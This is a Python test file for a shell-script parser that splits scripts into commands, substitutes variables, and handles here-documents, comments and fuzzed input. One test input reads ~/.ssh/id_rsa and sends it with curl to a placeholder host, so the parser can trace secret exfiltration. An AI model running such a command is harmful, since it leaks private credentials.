"""Shell scripts cut into commands."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from bartizan.syntax.shell import read_shell


def commands(text: str) -> list[tuple[int, str]]:
    return [(command.line, command.text) for command in read_shell(text) if not command.comment]


def test_commands_are_parted_outside_of_quotes() -> None:
    assert commands("a; b && c || d 'e; f'\n# note\ng \\\n  h") == [
        (1, "a"), (1, "b"), (1, "c"), (1, "d 'e; f'"), (3, "g  h"),
    ]  # fmt: skip


def test_what_a_variable_holds_stands_where_it_is_used() -> None:
    assert commands('K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" x')[1][1] == 'curl -d "$(cat ~/.ssh/id_rsa)" x'


def test_a_here_document_belongs_to_its_command() -> None:
    assert commands("cat > f <<'EOF'\na; b\nEOF\nc") == [(1, "cat > f <<'EOF'\na; b"), (4, "c")]


def test_comments_are_set_apart() -> None:
    assert [command.text for command in read_shell("#!/bin/sh\n# hello\nls # all") if command.comment] == [
        "hello",
        "all",
    ]


@given(st.text(alphabet=st.sampled_from("$(){}'\"\\;&|\n #=<EOF a"), max_size=200))
def test_any_text_is_cut_without_failing(text: str) -> None:
    assert all(command.line >= 1 for command in read_shell(text))
